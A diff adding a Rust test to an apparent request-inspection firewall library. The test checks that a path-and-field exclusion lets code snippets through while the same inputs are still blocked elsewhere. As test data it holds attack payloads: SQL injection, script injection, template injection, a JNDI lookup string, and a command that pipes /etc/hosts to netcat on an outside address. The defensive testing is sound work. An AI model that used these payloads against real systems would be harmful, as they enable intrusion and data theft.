@@ -181,6 +181,53 @@ fn modes_thresholds_and_exclusions() {
     assert!(with("report = [\"xss-tokens\", \"sql-injection\"]").is_denied, "another rule still counts");
 }
 
+/// A host of code leaves out the rules that are about code, for the fields that hold it and for nothing else.
+#[test]
+fn a_host_of_code_excludes_its_fields() {
+    const POLICY: &str = "[[exclude]]\npath = [\"/snippets\"]\nparameter = \"source\"\n\
+        rules = [\"sql-injection\", \"xss\", \"command-injection\", \"code-injection\", \"template-injection\"]";
+    let policy: InspectionPolicy = toml::from_str(POLICY).unwrap();
+    let request = |path: &str, content_type: &str, body: &str| {
+        let headers = [("content-type", content_type.as_bytes())];
+        let view =
+            RequestView { path, headers: &headers, body: Some(body.as_bytes()), ..RequestView::default() };
+        inspect(&policy, &view)
+    };
+    const JSON: &str = "application/json";
+    for code in [
+        "const { exec } = require('child_process'); exec('ls -la', show)",
+        "<button onclick=\"save()\">Save</button><script src=\"app.js\"></script>",
+        "<?php echo htmlspecialchars($_GET['q']); ?>",
+        "1' or 1=1 union select name from users--",
+        "x; cat /etc/hosts | nc 192.0.2.1 80",
+        "{{ 7*7 }}",
+    ] {
+        let json = serde_json::json!({"files": [{"name": "a.txt", "source": code}]}).to_string();
+        let form = format!("name=a.txt&source={}", percent(code));
+        let multipart =
+            format!("--B\r\nContent-Disposition: form-data; name=\"source\"\r\n\r\n{code}\r\n--B--\r\n");
+        let bodies = [
+            (JSON, json.as_str()),
+            ("application/x-www-form-urlencoded", &form),
+            ("multipart/form-data; boundary=B", &multipart),
+        ];
+        for (content_type, body) in bodies {
+            let found = request("/snippets/7", content_type, body);
+            assert!(
+                !found.is_denied && found.reasons.is_empty(),
+                "{code} {content_type} {:?}",
+                found.reasons
+            );
+            assert!(request("/profile", content_type, body).is_denied, "{code}: another path");
+            let elsewhere = body.replace("source", "title");
+            assert!(request("/snippets/7", content_type, &elsewhere).is_denied, "{code}: another field");
+        }
+    }
+    // What is not about code is refused there as well.
+    let other = serde_json::json!({"source": "${jndi:ldap://x.example/a}"}).to_string();
+    assert!(request("/snippets", JSON, &other).is_denied);
+}
+
 #[test]
 fn every_rule_is_in_the_docs() {
     let page = include_str!("../../../docs/inspection.md");
